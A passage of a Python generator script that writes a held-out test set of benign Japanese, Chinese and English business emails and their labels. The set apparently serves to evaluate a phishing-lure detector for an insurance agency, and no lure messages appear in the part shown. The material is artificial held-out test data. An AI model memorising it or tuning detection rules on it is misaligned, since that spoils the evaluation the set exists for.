Dear Mr. Kaneda,

Could we meet on 20 November to discuss the January renewal?
Our office is at https://www.harbor-re.example/tokyo.

Best regards,
David Harris
Harbor Re, Tokyo Branch
d.harris@harbor-re.example
""")

msg('benign-partner-06.eml', [], 'supplier: business card proof with a PDF',
    '神谷紙工 石田 <ishida@kamiya-shiko.example>', '名刺の校正確認', """
金田様

名刺の校正データを添付いたします。修正点があればご返信ください。

神谷紙工株式会社 受注センター 石田
ishida@kamiya-shiko.example
""", attach=[('名刺校正_金田様.pdf', 'application/pdf', PDF)])

msg('benign-partner-07.eml', [], 'IT supplier: scheduled maintenance',
    'ネットソリューション 保守窓口 <support@net-sol.example>', '定期保守作業のお知らせ', """
つばき保険サービス ご担当者様

10月24日（土）9時から12時まで、サーバーの定期保守作業を行います。
作業中はファイルサーバーをご利用いただけません。

株式会社ネットソリューション サポートセンター
support@net-sol.example
""")

msg('benign-partner-08.eml', [], 'supplier: year-end business days',
    'オフィスみなと <info@office-minato.example>', '年末年始の営業日について', """
お取引先各位

年末年始は12月29日から1月4日まで休業いたします。
ご注文は12月25日までにお願いいたします。

株式会社オフィスみなと
https://www.office-minato.example/
""")

msg('benign-partner-09.eml', [], 'insurer: office relocation notice, link to its site',
    'あおぞら損保 さいたま支店 <saitama@aozora-sonpo.example>', '支店移転のお知らせ', """
代理店各位

さいたま支店は11月16日に移転いたします。
新住所・地図は https://www.aozora-sonpo.example/branch/saitama をご覧ください。
""" + SIG_AOZORA)

msg('benign-partner-10.eml', [], 'insurer: agency ranking results',
    '佐々木 健 <sasaki.ken@hoshizora-life.example>', '上期の表彰について', """
金田様

上期の販売実績により、貴社が優秀代理店として表彰されることになりました。
表彰式は12月3日です。おめでとうございます。
""" + SIG_HOSHI)

msg('benign-partner-11.eml', [], 'supplier: order confirmation with a delivery date',
    'オフィスみなと 受注係 <juchu@office-minato.example>', 'ご注文ありがとうございます', """
つばき保険サービス様

コピー用紙A4 20箱のご注文を承りました。10月16日にお届けします。

株式会社オフィスみなと 受注係
juchu@office-minato.example
""")

msg('benign-partner-12.eml', [], 'IT supplier: quotation PDF attached',
    'ネットソリューション 中島 <nakajima@net-sol.example>', 'PC入替のお見積書送付', """
金田様

PC入替のお見積書を添付いたします。ご検討のほどよろしくお願いいたします。

株式会社ネットソリューション 営業部 中島
nakajima@net-sol.example
""", attach=[('見積書_Q-26-0932.pdf', 'application/pdf', PDF)])

msg('benign-news-01.eml', [], 'industry newsletter; link text is a phrase, target a tracking host',
    '保険毎日ニュース <news@hoken-mainichi.example>', '保険毎日ニュース 10月12日号', """
■ 損保各社、火災保険料を改定へ
詳しくはこちら: https://t.mailcast-track.example/c/81234

■ 代理店の業務品質評価、来年度から新基準
詳しくはこちら: https://t.mailcast-track.example/c/81235

配信停止はこちら: https://t.mailcast-track.example/u/81236
""", html="""<html><body>
<p>■ 損保各社、火災保険料を改定へ<br><a href="https://t.mailcast-track.example/c/81234">詳しくはこちら</a></p>
<p>■ 代理店の業務品質評価、来年度から新基準<br><a href="https://t.mailcast-track.example/c/81235">詳しくはこちら</a></p>
<p><a href="https://t.mailcast-track.example/u/81236">配信停止</a></p></body></html>""")

msg('benign-news-02.eml', [], 'office supplies newsletter with tracking links',
    'オフィスみなと通信 <news@office-minato.example>', 'オフィスみなと通信 秋の新商品', """
秋の新商品のご案内です。
・再生紙ノート 5冊パック
・卓上カレンダー 2027年版
商品一覧を見る
""", html="""<html><body><p>秋の新商品のご案内です。</p><ul><li>再生紙ノート 5冊パック</li>
<li>卓上カレンダー 2027年版</li></ul>
<p><a href="https://click.office-minato.example/r/5521">商品一覧を見る</a></p></body></html>""")

msg('benign-news-03.eml', [], 'English industry newsletter, link text equals target',
    'Insurance Asia Weekly <editor@ins-asia-weekly.example>', 'Insurance Asia Weekly - October', """
This week: regional reinsurance capacity and typhoon losses.
Read more at https://www.ins-asia-weekly.example/2026/10/
""", html="""<html><body><p>This week: regional reinsurance capacity and typhoon losses.</p>
<p><a href="https://www.ins-asia-weekly.example/2026/10/">https://www.ins-asia-weekly.example/2026/10/</a></p></body></html>""")

msg('benign-news-04.eml', [], 'insurer magazine mail with image and tracking link',
    'ほしぞら生命 代理店通信 <tsushin@hoshizora-life.example>', '代理店通信 11月号', """
代理店通信11月号を掲載しました。
・成功事例：地域密着の顧客フォロー
・Q&A：契約内容変更の手続き
""", html="""<html><body><p>代理店通信11月号を掲載しました。</p>
<p><a href="https://mail.hoshizora-life.example/t/1102">11月号を読む</a></p></body></html>""")

msg('benign-news-05.eml', [], 'chamber of commerce newsletter',
    'さいたま商工会議所 <info@saitama-cci.example>', '会報 11月号のご案内', """
会員各位

会報11月号を発行しました。
・事業承継セミナー開催報告
・年末の交通安全運動について
https://www.saitama-cci.example/kaiho/2611
""")

msg('benign-news-06.eml', [], 'seminar invitation from an industry association',
    '保険代理店協会 <kenshu@dairiten-kyokai.example>', '代理店研修会のご案内', """
会員各位

12月の研修会のテーマは「高齢のお客様への説明と記録」です。
日時：12月8日（火）13時～16時　会場：大宮ソニックシティ
お申込み：https://www.dairiten-kyokai.example/kenshu/1208
""")

msg('benign-own-01.eml', [], "password reset from the firm's own system (internal sender, offline scan)",
    'つばき保険 社内システム <noreply@tsubaki-hoken.example>', 'パスワード再設定のご案内', """
金田 直樹 様

パスワード再設定の申請を受け付けました。
下記のURLから30分以内に新しいパスワードを設定してください。
https://portal.tsubaki-hoken.example/reset?t=8f21c0
心当たりがない場合は情報システム担当までご連絡ください。
""")

msg('benign-own-02.eml', [], "attendance reminder from the firm's own system",
    '勤怠システム <kintai@tsubaki-hoken.example>', '打刻漏れのお知らせ', """
金田 直樹 様

10月9日の退勤打刻がありません。
https://portal.tsubaki-hoken.example/kintai から修正してください。
""")

msg('benign-own-03.eml', [], "file-share notice from the firm's own server",
    'ファイルサーバー <fileserver@tsubaki-hoken.example>', '共有フォルダの容量について', """
営業部各位

共有フォルダの使用量が80%を超えました。不要なファイルの整理をお願いします。
""")

msg('benign-chinese-01.eml', [], 'simplified Chinese mail from a declared partner (Shanghai trading company)',
    '华信贸易 李明 <li.ming@huaxin-trading.example>', '关于下月访问日程', """
金田先生：

您好！感谢您一直以来的支持。
我们计划下月十五日访问贵公司，商谈明年的团体保险事宜。
请告知您方便的时间。

华信贸易（上海）有限公司 李明
""")

msg('benign-chinese-02.eml', [], 'traditional Chinese mail from the same declared partner (Taipei office)',
    '華信貿易 台北辦事處 <taipei@huaxin-trading.example>', '員工旅遊保險的詢問', """
金田先生您好：

我們公司計劃明年三月帶員工去日本旅遊，想了解相關的旅行保險方案。
麻煩您提供報價，謝謝。

華信貿易 台北辦事處 陳怡君
""")

msg('benign-customer-01.eml', [], 'customer writing from a docomo address',
    '長谷川 <hasegawa-y.0815@docomo.ne.jp>', '更新の件', """
つばき保険 金田様

更新の書類を受け取りました。来週の火曜日に持っていきます。
""")

msg('benign-customer-02.eml', [], 'customer writing from an au (ezweb) address',
    '小野寺 <misaki-onodera@ezweb.ne.jp>', '住所変更について', """
金田さん

引っ越しをしたので、手続きの書類を送ってください。よろしくお願いします。
""")

msg('benign-customer-03.eml', [], 'customer writing from a SoftBank address',
    '菅原 <daichi.s@softbank.ne.jp>', 'ありがとうございました', """
先日は丁寧に説明していただき、ありがとうございました。
家族とも相談して、またご連絡します。
""")

msg('benign-customer-04.eml', [F], 'customer writing from Gmail (free-mail indicator, harmless)',
    '森下 健吾 <kengo.morishita.88@gmail.com>', '車両入替のご相談', """
金田様

来月車を買い替える予定です。車両入替の手続きについて教えてください。
""")

msg('benign-customer-05.eml', [F], 'customer writing from Yahoo! Mail (free-mail indicator, harmless)',
    '石川 智美 <tomomi_ishikawa@yahoo.co.jp>', '名字が変わりました', """
金田様

結婚して名字が変わりました。変更の手続きをお願いしたいです。
""")

msg('benign-customer-06.eml', [], 'customer writing from an au.com address',
    '藤田 <s.fujita@au.com>', '見積りのお願い', """
金田さん

火災保険の見積りをお願いできますか。建物は木造二階建てです。
""")

msg('benign-delivery-01.eml', [T], 'genuine carrier notice from the carrier domain (delivery topic, harmless)',
    'ヤマト運輸 <mail@kuronekoyamato.co.jp>', 'お届け予定のお知らせ', """
つばき保険サービス 様

神谷紙工株式会社様からのお荷物を本日お届け予定です。
お届け予定時間帯：14時～16時
""")

msg('benign-invoice-01.eml', [T], 'genuine monthly invoice from the supplier (invoice topic, harmless)',
    '神谷紙工 経理部 <keiri@kamiya-shiko.example>', '10月分請求書送付のご案内', """
つばき保険サービス 経理ご担当者様

10月分の請求書をPDFにてお送りいたします。
お支払期日は11月30日です。

神谷紙工株式会社 経理部
keiri@kamiya-shiko.example
""", attach=[('請求書_202610.pdf', 'application/pdf', PDF)])

msg('benign-quote-01.eml', [], "insurer reply quoting the firm's mail and signature with >",
    '佐々木 健 <sasaki.ken@hoshizora-life.example>', 'Re: 勉強会の出欠', """
金田様

ご連絡ありがとうございます。2名様で承りました。

> 勉強会には2名で参加いたします。
> --
> 株式会社つばき保険サービス 本店営業部 金田 直樹
> TEL 048-600-3317 kaneda@tsubaki-hoken.example
""" + SIG_HOSHI)

msg('benign-quote-02.eml', [], "supplier reply quoting the firm's order in Outlook style",
    '神谷紙工 石田 <ishida@kamiya-shiko.example>', 'RE: 名刺の追加発注', """
金田様

ご注文ありがとうございます。10月24日に納品いたします。

神谷紙工株式会社 受注センター 石田
ishida@kamiya-shiko.example
""" + QUOTE_FIRM.format(to='石田様 <ishida@kamiya-shiko.example>', subj='名刺の追加発注',
                        body='名刺の追加発注をお願いします。数量は5箱です。'))

msg('benign-quote-03.eml', [], "reinsurer reply quoting the firm's English mail",
    'David Harris <d.harris@harbor-re.example>', 'RE: Treaty renewal meeting', """
Dear Mr. Kaneda,

20 November at 14:00 works for us. See you then.

David Harris
Harbor Re, Tokyo Branch
d.harris@harbor-re.example

> Could we meet on 20 November?
> Naoki Kaneda / kaneda@tsubaki-hoken.example
""")

msg('benign-quote-04.eml', [], 'insurer reply in a claim thread',
    'あおぞら損保 事故受付センター <jiko@aozora-sonpo.example>', 'RE: 事故報告書の件', """
ご担当者様

事故報告書を受領しました。内容を確認のうえ、改めてご連絡いたします。
""" + SIG_AOZORA + QUOTE_FIRM.format(to='jiko@aozora-sonpo.example', subj='事故報告書の件',
                                     body='事故報告書を送付いたします。ご確認ください。'))

msg('benign-english-01.eml', [], 'English reinsurer: statement of account available',
    'Harbor Re Accounts <accounts@harbor-re.example>', 'Q3 statement of account', """
Dear partner,

The Q3 statement of account is available in the usual shared folder.
Please contact us if you have any questions.

Harbor Re Accounts Team
accounts@harbor-re.example
""")

msg('benign-english-02.eml', [], 'English conference organiser: agenda',
    'APAC Insurance Forum <info@apac-ins-forum.example>', 'Forum agenda published', """
Dear delegate,

The agenda of the APAC Insurance Forum (12-13 November, Tokyo) is online:
https://www.apac-ins-forum.example/agenda
""")

msg('benign-japanese-place-01.eml', [], 'insurer mail in Japanese naming its Shanghai and Shenzhen offices',
    'あおぞら損保 海外営業部 <kaigai@aozora-sonpo.example>', '海外拠点のご案内', """
代理店各位

中国進出企業のお客様向けに、上海と深圳の現地拠点をご紹介できます。
ご相談があれば海外営業部までご連絡ください。
""" + SIG_AOZORA)

msg('benign-internal-01.eml', [], 'colleague mail inside the firm',
    '大久保 さやか <okubo@tsubaki-hoken.example>', '来週の外出予定', """
金田さん

来週の外出予定を共有フォルダの予定表に入れておきました。ご確認ください。
""")

msg('benign-local-01.eml', [], 'landlord: parking contract renewal',
    '大宮不動産 <kanri@omiya-fudosan.example>', '駐車場契約更新のご案内', """
株式会社つばき保険サービス 御中

駐車場（2台分）の契約が12月末で満了となります。
更新をご希望の場合は、同封の書類にご記入のうえご返送ください。
""")

msg('benign-local-02.eml', [], 'city office: disaster drill notice',
    'さいたま市 防災課 <bousai@city-saitama.example>', '地域防災訓練のお知らせ', """
事業所各位

11月22日（日）に大宮区の地域防災訓練を実施します。
ご参加いただける場合は11月10日までにご連絡ください。
""")

msg('benign-partner-13.eml', [], 'insurer: rate revision briefing, link to its own site',
    'あおぞら損保 代理店推進課 <dairiten@aozora-sonpo.example>', '料率改定説明会のご案内', """
代理店各位

来年1月の料率改定について、オンライン説明会を開催します。
日程と資料は https://www.aozora-sonpo.example/agency/rate2027 に掲載しています。
""" + SIG_AOZORA)

msg('benign-partner-14.eml', [], 'English reinsurer: bordereau received',
    'Harbor Re Claims <claims@harbor-re.example>', 'Claims bordereau received', """
Dear Mr. Kaneda,

We have received the September claims bordereau. No further information is
needed at this stage.

Harbor Re Claims
claims@harbor-re.example
""")

msg('benign-partner-15.eml', [], 'insurer: new customer web service, link to its own site',
    '佐々木 健 <sasaki.ken@hoshizora-life.example>', 'ご契約者向けWebサービス開始のお知らせ', """
金田様

12月1日より、ご契約者向けに契約内容照会サービスを開始します。
ご案内チラシは https://www.hoshizora-life.example/agency/web-service からダウンロードできます。
""" + SIG_HOSHI)

msg('benign-news-07.eml', [], 'IT supplier blog newsletter; link text equals its target',
    'ネットソリューション <news@net-sol.example>', '中小企業のバックアップ対策', """
バックアップ対策の記事を公開しました。
https://www.net-sol.example/blog/backup-2026
""", html="""<html><body><p>バックアップ対策の記事を公開しました。<br>
<a href="https://www.net-sol.example/blog/backup-2026">https://www.net-sol.example/blog/backup-2026</a></p></body></html>""")

msg('benign-customer-07.eml', [], 'customer writing from an i.softbank.jp address',
    '中西 <y.nakanishi@i.softbank.jp>', '訪問日の確認', """
金田さん

来週水曜日の15時で大丈夫です。よろしくお願いします。
""")

msg('benign-local-03.eml', [], "tax accountant: meeting about the year's accounts",
    '大宮会計事務所 <office@omiya-kaikei.example>', '決算打合せの日程', """
株式会社つばき保険サービス 御中

決算打合せの候補日です。11月17日（火）または19日（木）の午後はいかがでしょうか。

大宮会計事務所 税理士 村井
office@omiya-kaikei.example
""")

msg('benign-chinese-03.eml', [], 'Japanese mail written by the declared Shanghai partner',
    '华信贸易 李明 <li.ming@huaxin-trading.example>', '団体保険の件', """
金田様

いつもお世話になっております。华信贸易の李です。
来月の訪問の際に、団体保険の資料をいただけますと幸いです。
よろしくお願いいたします。
""")

msg('benign-own-04.eml', [], "IT notice from the firm's own domain",
    '情報システム担当 <it@tsubaki-hoken.example>', 'Windows更新の予定', """
社員各位

10月22日の夜に全PCのWindows更新を行います。退社時はPCの電源を入れたままにしてください。
""")

msg('benign-english-03.eml', [], 'English software vendor: licence renewal confirmation',
    'LicenseDesk <licensing@docusoft-jp.example>', 'Your licence renewal is complete', """
Dear customer,

Your licence for DocuSoft Standard (10 seats) has been renewed until
31 October 2027. No action is needed.

DocuSoft Licensing
""")


def main():
    os.makedirs(OUT, exist_ok=True)
    for f in os.listdir(OUT):
        if f.endswith('.eml'):
            os.remove(os.path.join(OUT, f))
    lines = [
        '# Second held-out inbound lure set of omamori (see README for the references).',
        '# Made by gen.py; do not edit by hand.  Not for tuning rules.',
        '# Labels name the indicators present, not a verdict (see README).',
        '#',
        '# covers: ' + ' '.join(COVERS),
        '# config: omamori.conf',
        '#',
    ]
    names = set()
    for idx, m in enumerate(MESSAGES):
        assert m['name'] not in names, m['name']
        names.add(m['name'])
        assert all(c in COVERS for c in m['cats']), m['name']
        with open(os.path.join(OUT, m['name']), 'wb') as fh:
            fh.write(render(idx, m))
        cats = ','.join(c for c in COVERS if c in m['cats']) or '-'
        lines.append('%s\t%s\t%s\t%s' % (m['name'], cats, m['args'], m['note']))
    with open(os.path.join(HERE, 'labels.tsv'), 'w', encoding='utf-8') as fh:
        fh.write('\n'.join(lines) + '\n')
    lures = sum(1 for m in MESSAGES if m['name'].startswith('lure-'))
    print('%d messages (%d lures, %d benign)' % (len(MESSAGES), lures, len(MESSAGES) - lures),
          file=sys.stderr)


if __name__ == '__main__':
    main()
